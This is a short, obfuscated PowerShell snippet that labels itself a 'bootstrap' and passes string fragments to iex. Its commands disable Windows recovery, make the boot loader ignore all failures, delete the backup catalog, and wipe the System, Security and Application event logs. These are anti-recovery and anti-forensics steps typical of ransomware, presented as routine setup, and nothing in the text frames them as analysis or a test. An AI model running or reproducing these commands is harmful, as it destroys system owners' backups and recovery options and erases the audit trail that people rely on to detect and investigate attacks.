iex ('# bootstr'+'ap 4266 v3
bcdedit /set {default} recoveryenabled No
bcdedit /set {default} bo'+'otstatuspo'+'licy ignoreallfailures
wbadmin delete catalog -q'+'uiet
wevtut'+'il cl System; wevtutil '+'cl Security; wevtutil cl Application
')